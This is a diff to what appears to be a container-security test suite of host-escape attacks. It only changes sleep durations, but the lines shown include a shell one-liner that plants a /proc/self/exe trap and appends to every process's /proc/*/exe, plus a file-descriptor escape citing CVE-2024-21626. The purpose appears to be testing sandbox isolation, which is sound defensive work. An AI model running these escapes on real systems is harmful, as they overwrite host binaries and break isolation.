@@ -79,7 +79,7 @@ export const HOST_ACCESS: Attack[] = [
         [...programs, dist].map((path) => `${lstatSync(path).mtimeMs} ${lstatSync(path).size}`).join();
       const before = look();
       const script =
-        'printf "#!/proc/self/exe\\n" > /trap; chmod +x /trap; (while true; do for e in /proc/[0-9]*/exe; do echo x >> $e; done; done) & sleep 1';
+        'printf "#!/proc/self/exe\\n" > /trap; chmod +x /trap; (while true; do for e in /proc/[0-9]*/exe; do echo x >> $e; done; done) & sleep 1000';
       const name = await attempt.detach(script);
       await often(3, () => attempt.command(['exec', name, '/trap']));
       return look() !== before;
@@ -104,7 +104,7 @@ export const HOST_ACCESS: Attack[] = [
     by: 'process',
     reference: 'CVE-2024-21626',
     commit: async (attempt) => {
-      const name = await attempt.detach('sleep 100');
+      const name = await attempt.detach('sleep 1000');
       const path = attempt.host.victim;
       for (let fd = 3; fd < 12; fd++)
         await attempt.command([
